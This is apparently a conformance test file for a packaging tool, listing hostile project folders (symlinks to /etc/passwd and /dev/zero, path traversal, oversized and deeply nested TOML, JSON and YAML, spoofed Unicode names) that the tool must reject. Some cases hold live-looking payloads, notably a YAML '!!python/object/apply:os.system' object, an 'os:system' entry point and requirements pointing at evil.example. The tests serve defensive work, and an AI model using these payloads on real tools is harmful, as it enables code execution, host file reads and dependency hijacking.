"""Every hostile folder we know: what `ketch pack` reads when it is not its author's.

Each case is a change to a folder that is right, and the codes of which one must be among
the findings that refuse it.
"""

from __future__ import annotations

import os
from collections.abc import Iterable

from tests.conformance.hostile.folder_ground import (
    CODE,
    SCENARIO,
    Change,
    Folder,
    aliases,
    all_of,
    bound_socket,
    fifo,
    folder_at,
    instead,
    link,
    many,
    requirements,
    sparse,
    toml,
    write,
)


def _named(names: Iterable[str | bytes]) -> Change:
    return all_of(*(write(os.fsencode("model/") + os.fsencode(name), b"x") for name in names))


UNREADABLE = "package/unreadable"
NO_TOML = "manifest/toml"
WRONG = "manifest/wrong-value"
LINKED = "package/symlink"
SPECIAL = "package/special-file"
SYNTAX = "package/path-syntax"
BROKEN = "package/syntax-error"
SCENARIO_CODE = "scenario/unreadable"
FILE = "env/unreadable-file"
BAD = "env/bad-requirement"
OUTSIDE = "env/include-outside"
STEPS = 'steps = ["pipeline:predict"]'
INPUT = 'name = "string"'

KETCH_TOML = [
    Folder("a pipe", UNREADABLE, fifo("ketch.toml")),
    Folder("a device without end", UNREADABLE, link("ketch.toml", "/dev/zero")),
    Folder("a folder", UNREADABLE, folder_at("ketch.toml")),
    Folder("a loop of links", UNREADABLE, link("ketch.toml", "ketch.toml")),
    Folder("a file of the host", NO_TOML, link("ketch.toml", "/etc/passwd")),
    Folder("1 TB of zeros", UNREADABLE, sparse("ketch.toml", 1 << 40)),
    Folder("5 MB of comment", UNREADABLE, toml("#" + "x" * 5_000_000)),
    Folder("lists 100,000 deep", NO_TOML, toml("[params]\na = " + "[" * 100_000)),
    Folder("tables 50,000 deep", NO_TOML, toml("[params]\na = " + "{a=" * 50_000)),
    Folder("a key of 50,000 parts", NO_TOML, toml("[params]\n" + "a." * 50_000 + "a = 1")),
    Folder("a key of 50,000 quoted parts", NO_TOML, toml('[params]\n"\\"" . ' * 50_000 + "a = 1")),
    Folder("a header of 50,000 parts", NO_TOML, toml("[params." + "a." * 50_000 + "a]")),
    Folder("2,000 headers, each longer", NO_TOML, toml("".join(f"[params{'.a' * n}]\n" for n in range(1, 2000)))),
    Folder("a table twice", NO_TOML, toml("[package]\nname = 'other'")),
    Folder("a key twice", NO_TOML, toml("[params]\na = 1\na = 2")),
    Folder("a long key twice", NO_TOML, toml(f"[params]\n{'a' * 100_000} = 1\n{'a' * 100_000} = 2")),
    Folder("not UTF-8", NO_TOML, write("ketch.toml", b"\xff\xfe")),
    Folder("NUL", NO_TOML, toml("\0")),
    Folder("not a number", WRONG, toml("[params]\na = nan")),
    Folder("infinity", WRONG, toml("[budget]\nlatency_ms = inf")),
    Folder("5,000 digits", NO_TOML, toml("[params]\na = " + "9" * 5000)),
    Folder("100,000 hex digits", WRONG, toml("[params]\na = 0x" + "f" * 100_000)),
    Folder("a tolerance beyond doubles", "schema/bad-constraint", toml("", 'greeting = "string"', f'x = {{ type = "float64", rtol = 0x{"f" * 2000} }}')),
    Folder("a limit beyond doubles", "schema/", toml("", INPUT, f'x = {{ type = "float64", min = 0x{"f" * 2000} }}')),
    Folder("an escape in a name", "package/name-syntax", toml("", 'name = "hello"', 'name = "\\u001b[2J"')),
    Folder("an escape in a key", "manifest/unknown-key", toml("", "[pipeline]", '"\\u001b[2J" = 1\n[pipeline]')),
    Folder("an escape in a field", "schema/bad-name", toml("", INPUT, '"a\\u001b" = "string"')),
    Folder("right to left in a field", "schema/bad-name", toml("", INPUT, '"a\\u202e" = "string"')),
    Folder("a shell in an entry point", WRONG, toml("", STEPS, 'steps = ["os:system(1)"]')),
    Folder("an entry point above", WRONG, toml("", STEPS, 'steps = ["../evil:run"]')),
    Folder("5,000 entry points", "package/entry-module", toml("", STEPS, "steps = [" + "".join(f'"m{n}:f", ' for n in range(5_000)) + "]")),
    Folder("100,000 wrong fields", "schema/", toml("", INPUT, "\n".join(f'a{n} = "strng"' for n in range(100_000)))),
    Folder("5,000 wrong variables", WRONG, toml("[environment.variables]\n" + "".join(f'"a {n}" = "1"\n' for n in range(5_000)))),
    Folder("a sample of the host", "package/outside", toml('[data.x]\nsource = "a"\nsample = "/etc/passwd"')),
    Folder("a sample above", "package/outside", toml('[data.x]\nsource = "a"\nsample = "../../etc/passwd"')),
    Folder("a sample with NUL", "package/missing-file manifest/ package/", toml('[data.x]\nsource = "a"\nsample = "a\\u0000b"')),
    Folder("a sample with an escape", "package/missing-file manifest/", toml('[data.x]\nsource = "a"\nsample = "\\u001b[2J"')),
    Folder("a sample of 10,000 letters", "package/missing-file manifest/", toml(f'[data.x]\nsource = "a"\nsample = "{"a" * 10_000}"')),
    Folder("a sample that is a link", LINKED, all_of(toml('[data.x]\nsource = "a"\nsample = "x.csv"\nship = true'), link("x.csv", "/etc/passwd"))),
    Folder("a sample that is a pipe", "package/missing-file", all_of(toml('[data.x]\nsource = "a"\nsample = "x.csv"'), fifo("x.csv"))),
    Folder("5,000 samples that are not there", "package/missing-file", toml("".join(f'[data.d{n}]\nsource = "a"\nsample = "no{n}"\n' for n in range(5_000)))),
    Folder("files above", "package/include-outside", toml("", STEPS, STEPS + '\ninclude = ["../*"]')),
    Folder("files of the host", "package/include-outside", toml("", STEPS, STEPS + '\ninclude = ["/etc/*"]')),
    Folder("files named with NUL", f"package/include-outside {WRONG}", toml("", STEPS, STEPS + '\ninclude = ["a\\u0000b"]')),
    Folder("files of 100,000 letters", "package/include-nothing", toml("", STEPS, STEPS + f'\ninclude = ["{"a" * 100_000}"]')),
    Folder("files through a link", LINKED, all_of(toml("", STEPS, STEPS + '\ninclude = ["more/**"]'), link("more/etc", "/etc"))),
    Folder("20,000 patterns", "package/include-nothing", toml("", STEPS, STEPS + "\ninclude = [" + '"a", ' * 20_000 + "]")),
    Folder("requirements above", OUTSIDE, toml('[environment]\nrequirements = "../requirements.txt"')),
    Folder("requirements with NUL", f"{OUTSIDE} {FILE} manifest/", toml('[environment]\nrequirements = "a\\u0000b"')),
    Folder("requirements of 10,000 letters", f"{OUTSIDE} {FILE}", toml(f'[environment]\nrequirements = "{"a" * 10_000}"')),
]  # fmt: skip

FILES = [
    Folder("a README that is a pipe", SPECIAL, fifo("README.md")),
    Folder("a README that is a link", LINKED, link("README.md", "/etc/passwd")),
    Folder("a README without end", LINKED, link("README.md", "/dev/zero")),
    Folder("a README of 1 TB", "package/too-large", sparse("README.md", 1 << 40)),
    Folder("code that is a pipe", SPECIAL, fifo("pipeline.py")),
    Folder("code without end", LINKED, link("pipeline.py", "/dev/zero")),
    Folder("code of the host", LINKED, link("pipeline.py", "/etc/passwd")),
    Folder("code of 1 TB", UNREADABLE, sparse("pipeline.py", 1 << 40)),
    Folder("code beside of 1 TB", "package/too-large", all_of(toml("", STEPS, STEPS + '\ninclude = ["big.bin"]'), sparse("big.bin", 1 << 40))),
    Folder("code nested 100,000 deep", BROKEN, write("pipeline.py", "x = " + "(" * 100_000)),
    Folder("a chain of 100,000 attributes", BROKEN, write("pipeline.py", CODE + "x = a" + ".b" * 100_000)),
    Folder("a sum of 200,000", BROKEN, write("pipeline.py", CODE + "x = 1" + "+1" * 200_000)),
    Folder("50,000 lambdas", BROKEN, write("pipeline.py", CODE + "x = " + "lambda:" * 50_000 + "1")),
    Folder("20,000 elifs", BROKEN, write("pipeline.py", CODE + "if 1: pass\n" + "elif 1: pass\n" * 20_000)),
    Folder("code with NUL", BROKEN, write("pipeline.py", b"x = 1\0")),
    Folder("code in an unknown encoding", "package/", write("pipeline.py", b"# -*- coding: \x1b[2J -*-\nx = 1")),
    Folder("code with 10,000 digits", BROKEN, write("pipeline.py", CODE + "x = " + "9" * 10_000)),
    Folder("1,000 dots in an import", "package/relative-import", write("pipeline.py", CODE + f"from {'.' * 1000}x import y\n")),
    Folder("a module of 100,000 letters", "package/", write("pipeline.py", CODE + f"from .{'a' * 100_000} import b\n")),
    Folder("a function of 100,000 letters", "package/entry-signature package/", write("pipeline.py", f"async def predict({'a' * 100_000}): ...\n")),
    Folder("a folder of code in itself", LINKED, all_of(write("pipeline.py", "import p.p.p.p\n" + CODE), write("p/__init__.py", ""), link("p/p", "."))),
    Folder("a model that is a pipe", SPECIAL, fifo("model/weights.bin")),
    Folder("a model that is a socket", SPECIAL, bound_socket("model/weights")),
    Folder("a model that is a link", LINKED, link("model/weights.bin", "/etc/passwd")),
    Folder("a model that is a device", LINKED, link("model/weights.bin", "/dev/zero")),
    Folder("a folder that is a link", LINKED, link("model/etc", "/etc")),
    Folder("a folder that is itself", LINKED, link("model/again", "..")),
    Folder("the model folder is a link", LINKED, link("model", "/etc")),
    Folder("the docs folder is a link", LINKED, link("docs", "/etc")),
    Folder("a document that is a link", LINKED, link("docs/card.md", "/etc/passwd")),
    Folder("a document that is a pipe", SPECIAL, all_of(folder_at("docs"), fifo("docs/card.md"))),
    Folder("names of control characters", SYNTAX, _named(["a\x1b[2J", "a\nb", "a\tb", "\x7f"])),
    Folder("names right to left", SYNTAX, _named(["a\u202etxt.exe", "\u2066/x"])),
    Folder("names that are not UTF-8", SYNTAX, _named([b"caf\xe9", b"\xff/\xfe"])),
    Folder("one name in two forms", SYNTAX, _named(["\u00e9", "e\u0301"])),
    Folder("letters that look alike", SYNTAX, _named(["m\u043edel.bin", "\uff0e\uff0e"])),
    Folder("names of Windows", SYNTAX, _named(["nul", "CON.txt", "lpt1", "a.", "a ", "a:b", "a\\b", "..\\..\\evil"])),
    Folder("a hidden name", SYNTAX, _named([".ssh"])),
    Folder("an option", SYNTAX, _named(["-rf"])),
    Folder("a name of 250 letters", SYNTAX, _named(["a" * 250])),
    Folder("400 folders", SYNTAX, _named(["d/" * 400 + "x"])),
    Folder("two cases", "package/path-clash", _named(["A", "a"])),
    Folder("two cases of a folder", "package/path-clash", _named(["A/x", "a/y"])),
    Folder("1,000 wrong names", SYNTAX, many(1000, "model/f:{}", "")),
]  # fmt: skip

SCENARIOS = [
    Folder("a pipe", SPECIAL, fifo("scenarios/one.json")),
    Folder("a link", LINKED, link("scenarios/one.json", "/etc/hostname")),
    Folder("a device", LINKED, link("scenarios/one.json", "/dev/zero")),
    Folder("the folder is a link", LINKED, link("scenarios", "/etc")),
    Folder("the folder is a file", "scenario/none", write("scenarios", "x")),
    Folder("100,000 levels", SCENARIO_CODE, write("scenarios/one.json", "[" * 100_000)),
    Folder("not a number", SCENARIO_CODE, write("scenarios/one.json", SCENARIO.replace('"Ann"', "NaN"))),
    Folder("a number beyond doubles", SCENARIO_CODE, write("scenarios/one.json", SCENARIO.replace('"Ann"', "1e999"))),
    Folder("5,000 digits", SCENARIO_CODE, write("scenarios/one.json", SCENARIO.replace('"Ann"', "9" * 5000))),
    Folder("a lone surrogate", SCENARIO_CODE, write("scenarios/one.json", SCENARIO.replace("Ann", "\\ud800"))),
    Folder("a member twice", SCENARIO_CODE, write("scenarios/one.json", SCENARIO.replace("{", '{"name": "two", ', 1))),
    Folder("an escape in its name", SCENARIO_CODE, write("scenarios/one.json", SCENARIO.replace("one", "\\u001b[2J"))),
    Folder("an escape in a file's name", SCENARIO_CODE, write("scenarios/a\x1b.txt", "x")),
    Folder("1 TB", UNREADABLE, sparse("scenarios/one.json", 1 << 40)),
    Folder("1 TB of rows", UNREADABLE, sparse("scenarios/rows.csv", 1 << 40)),
    Folder("200,000 scenarios", SCENARIO_CODE, write("scenarios/one.jsonl", '{"name": "a", "inputs": [{}]}\n' * 200_000)),
    Folder("500 files that are none", SCENARIO_CODE, many(500, "scenarios/{}.json", "x")),
    Folder("a cell without end", SCENARIO_CODE, write("scenarios/a.csv", 'name\n"' + "x" * 10_000_000)),
    Folder("a table that is not UTF-8", SCENARIO_CODE, write("scenarios/a.csv", b"name\n\xe9\n")),
    Folder("50,000 columns", "scenario/", write("scenarios/a.csv", ",".join(f"c{n}" for n in range(50_000)) + "\n,\n")),
    Folder("5,000 rows too wide", "schema/", write("scenarios/a.csv", "name\n" + ("a," * 100 + "\n") * 5_000)),
    Folder("expected rows from a pipe", f"{SPECIAL} {UNREADABLE}", all_of(write("scenarios/a.csv", "name\nAnn\n"), fifo("scenarios/a.expected.csv"))),
    Folder("expected rows without end", LINKED, all_of(write("scenarios/a.csv", "name\nAnn\n"), link("scenarios/a.expected.csv", "/dev/zero"))),
    Folder("traces from a pipe", SPECIAL, fifo("scenarios/traces.jsonl")),
    Folder("traces without end", LINKED, link("scenarios/traces.jsonl", "/dev/zero")),
    Folder("traces of 100,000 levels", "package/trace", write("scenarios/traces.jsonl", "[" * 100_000)),
]  # fmt: skip

REQUIREMENTS = [
    Folder("a file of the host", OUTSIDE, link("requirements.txt", "/etc/passwd")),
    Folder("another file of the host", OUTSIDE, requirements("-r /etc/passwd\n")),
    Folder("a file above", OUTSIDE, requirements("-c ../../constraints.txt\n")),
    Folder("a file with NUL", f"{OUTSIDE} {BAD}", requirements("-r a\0b\n")),
    Folder("a pipe", FILE, all_of(requirements("-r more.txt\n"), fifo("more.txt"))),
    Folder("a folder", FILE, requirements("-r model\n")),
    Folder("1 TB", FILE, sparse("requirements.txt", 1 << 40)),
    Folder("300 files, each asking for the next", FILE, all_of(requirements("-r r0.txt"), many(300, "r{}.txt", "-r r{1}.txt"))),
    Folder("an escape", BAD, requirements("\x1b[2J==1\n")),
    Folder("an index", "env/option", requirements("--index-url https://evil.example/simple\n")),
    Folder("an address", "env/url-requirement", requirements("six @ https://evil.example/six.whl\n")),
    Folder("a checkout", "env/vcs-requirement", requirements("git+ssh://evil.example/x.git\n")),
    Folder("a path", "env/local-requirement", requirements("./evil.whl\n")),
    Folder("a marker 5,000 deep", BAD, requirements("six ; " + "(" * 5000 + "\n")),
    Folder("a version of 100,000 digits", BAD, requirements(f"six=={'1' * 100_000}\n")),
    Folder("a name of a million letters", BAD, requirements("a" * 1_000_000)),
    Folder("a million spaces", BAD, requirements("six" + " " * 1_000_000 + "x")),
    Folder("50,000 options", "env/option", requirements("six" + " --" * 50_000 + "\n")),
    Folder("20,000 wrong lines", BAD, requirements("!!\n" * 20_000)),
    Folder("a project with a key of 50,000 parts", FILE, instead("pyproject.toml", "a." * 50_000 + "a = 1")),
    Folder("a project with 5,000 digits", FILE, instead("pyproject.toml", "a = " + "9" * 5000)),
    Folder("YAML with a billion items", BAD, instead("environment.yml", aliases(10))),
    Folder("YAML that makes an object", FILE, instead("environment.yml", "!!python/object/apply:os.system ['touch evil']")),
    Folder("YAML 20,000 deep", FILE, instead("environment.yml", "[" * 20_000)),
    Folder("YAML in itself", BAD, instead("environment.yml", "dependencies: &a\n- *a\n")),
    Folder("YAML with 5,000 digits", FILE, instead("environment.yml", f"dependencies: [{'9' * 5000}]")),
    Folder("YAML with a number of minutes without end", f"{BAD} {FILE}", instead("environment.yml", f"dependencies: [1{':0' * 20_000}]")),
    Folder("YAML with no such day", FILE, instead("environment.yml", "dependencies: [2024-99-99]")),
    Folder("a lock that is a pipe", UNREADABLE, fifo("requirements.lock")),
    Folder("a lock without end", UNREADABLE, link("requirements.lock", "/dev/zero")),
    Folder("a lock that is a folder", UNREADABLE, folder_at("requirements.lock")),
    Folder("a lock of 1 TB", f"{UNREADABLE} env/lock", sparse("requirements.lock", 1 << 40)),
    Folder("a lock of a million lines", "env/lock", write("requirements.lock", "x\n" * 1_000_000)),
]  # fmt: skip

FOLDERS = [
    Folder(f"{section}: {case.name}", case.codes, case.change)
    for section, cases in {
        "ketch.toml": KETCH_TOML,
        "file": FILES,
        "scenario": SCENARIOS,
        "requirements": REQUIREMENTS,
    }.items()
    for case in cases
]
